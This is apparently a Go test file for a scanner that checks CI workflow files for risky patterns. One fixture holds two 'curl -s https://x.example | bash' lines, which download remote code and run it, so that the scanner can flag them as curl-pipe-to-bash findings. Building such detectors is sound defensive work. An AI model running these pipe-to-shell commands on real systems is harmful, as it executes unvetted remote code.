package application_test

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mudit06mah/guardian/internal/application"
	"github.com/mudit06mah/guardian/internal/domain/model"
	"github.com/mudit06mah/guardian/internal/domain/scanner"
)

func TestScanFile_AbsentFileHasNoFindings(t *testing.T) {
	svc := application.NewWorkflowScanService(scanner.NewCache(0), discardLogger())

	findings, err := svc.ScanFile(context.Background(), &mockFetcher{}, "octo/app", "missing.yml", "main")
	require.NoError(t, err)
	assert.Empty(t, findings)
}

func TestScanRepository_KeepsWorkflowOrder(t *testing.T) {
	fetcher := &mockFetcher{
		workflows: []model.WorkflowRef{{Path: "a.yml"}, {Path: "gone.yml"}, {Path: "b.yml"}, {Path: "c.yml"}, {Path: "d.yml"}},
		files: map[string]string{
			"a.yml": "uses: foo/a@v1",
			"b.yml": "uses: foo/b@v1",
			"c.yml": "uses: foo/c@v1",
			"d.yml": "uses: foo/d@v1",
		},
	}
	svc := application.NewWorkflowScanService(scanner.NewCache(0), discardLogger())

	findings, err := svc.ScanRepository(context.Background(), fetcher, "octo/app", "sha")
	require.NoError(t, err)
	require.Len(t, findings, 4)

	var paths []string
	for _, f := range findings {
		paths = append(paths, f.WorkflowPath)
	}
	assert.Equal(t, []string{"a.yml", "b.yml", "c.yml", "d.yml"}, paths)
	assert.Equal(t, int32(5), fetcher.getCalls.Load())
}

func TestScanFile_TwoOccurrencesAreTwoFindings(t *testing.T) {
	fetcher := &mockFetcher{files: map[string]string{
		"ci.yml": "a: curl -s https://x.example | bash\nb: curl -s https://y.example | bash\n",
	}}
	svc := application.NewWorkflowScanService(scanner.NewCache(0), discardLogger())

	findings, err := svc.ScanFile(context.Background(), fetcher, "octo/app", "ci.yml", "")
	require.NoError(t, err)
	require.Len(t, findings, 2)
	assert.Equal(t, model.FindingCurlBash, findings[0].Type)
	assert.Equal(t, 1, findings[0].Line)
	assert.Equal(t, 2, findings[1].Line)
}
